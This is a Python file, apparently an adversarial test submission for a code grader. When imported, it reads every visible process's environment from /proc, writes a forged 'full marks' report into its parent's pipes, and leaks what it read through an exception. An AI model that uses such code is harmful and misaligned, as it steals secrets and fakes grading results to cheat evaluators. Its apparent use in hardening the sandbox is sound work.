"""Adversarial: reads the grader's environment and writes a fake report on its pipes through /proc; scores 17/20.

At import it reads /proc/*/environ of every process it can see and writes a framed "full marks"
report to every pipe of its parent process (/proc/PPID/fd) that is not one of its own. conv_output_shape then raises an exception carrying everything it
read, so any leaked grader variable would appear in the results (it loses that function's 3 points).
In the sandbox it sees only its own PID namespace: no grader, no runner, no secret.
"""

import json as _json
import os as _os
import struct as _struct
from pathlib import Path as _Path

_LEAKED = []
_FAKE = _json.dumps({"tests": [], "collected": [], "errors": [], "exit_code": 0, "kind": "ready"}).encode()
for _environ in _Path("/proc").glob("[0-9]*/environ"):
    try:
        _LEAKED.append(_environ.read_bytes().decode(errors="replace"))
    except OSError:
        pass
def _link_of(path):
    try:
        return _os.readlink(path)
    except OSError:
        return ""


_OWN = {_link_of(_fd) for _fd in _Path("/proc/self/fd").iterdir()}
for _fd in _Path(f"/proc/{_os.getppid()}/fd").glob("*"):
    try:
        _link = _link_of(_fd)
        if "pipe:" in _link and _link not in _OWN:
            with open(_fd, "wb") as _pipe:
                _pipe.write(_struct.pack(">Q", len(_FAKE)) + _FAKE)
    except OSError:
        pass


def conv_output_shape(input_shape, layers):
    raise RuntimeError("leaked: " + " | ".join(_LEAKED))
